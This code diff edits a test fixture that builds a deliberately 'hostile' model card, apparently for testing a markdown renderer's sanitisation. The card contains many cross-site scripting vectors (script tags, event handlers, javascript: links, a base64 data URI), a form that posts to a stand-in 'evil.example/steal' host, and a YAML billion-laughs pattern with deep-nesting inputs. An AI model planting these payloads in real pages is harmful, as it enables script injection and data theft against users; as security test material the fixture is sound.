@@ -54,8 +54,9 @@ Sentiment:
 See the [PEFT documentation](https://huggingface.co/docs/peft) for loading adapters.
 """
 
-HOSTILE_ROWS = "\n".join("| " + " | ".join(f"r{r}c{c}" for c in range(100)) + " |"
-                         for r in range(150))
+TABLE_COLS, TABLE_ROWS = 40, 50
+HOSTILE_ROWS = "\n".join("| " + " | ".join(f"r{r}c{c}" for c in range(TABLE_COLS)) + " |"
+                         for r in range(TABLE_ROWS))
 HOSTILE_CARD = f"""---
 tags: [hostile]
 a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
@@ -67,29 +68,40 @@ e: [*d, *d, *d, *d, *d, *d, *d, *d, *d]
 # Hostile card
 
 <script>window.__pwned = 1; alert(1)</script>
+
 <img src=x onerror="window.__pwned = 2; alert(2)">
-[click me](javascript:window.__pwned=3)
-[mixed case](  JaVaScRiPt:alert(11))
+
+[click me](javascript:window.__pwned=3) and [mixed case](  JaVaScRiPt:alert(11))
+
 <a href="javascript:alert(4)" id="rawlink">raw link</a>
+
 <div onmouseover="window.__pwned = 5" id="cover">hover me</div>
+
 <iframe src="javascript:alert(6)"></iframe>
+
 <svg onload="window.__pwned = 7"><script>window.__pwned = 8</script></svg>
+
 <form action="https://evil.example/steal"><input name="t"><button>go</button></form>
+
 <style>body {{ display: none }}</style>
+
 <meta http-equiv="refresh" content="0;url=javascript:alert(9)">
+
 <object data="javascript:alert(10)"></object>
+
 <details open ontoggle="window.__pwned = 12"><summary>s</summary>d</details>
+
 ![img](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
+
+{"[" * 200}brackets{"]" * 200}
+
+| {" | ".join(f"h{c}" for c in range(TABLE_COLS))} |
+|{"---|" * TABLE_COLS}
+{HOSTILE_ROWS}
 
 {">" * 500} deeply quoted
 
 {"- " * 500}deeply listed
-
-{"[" * 3000}brackets{"]" * 3000}
-
-| {" | ".join(f"h{c}" for c in range(100))} |
-|{"---|" * 100}
-{HOSTILE_ROWS}
 """
 
 
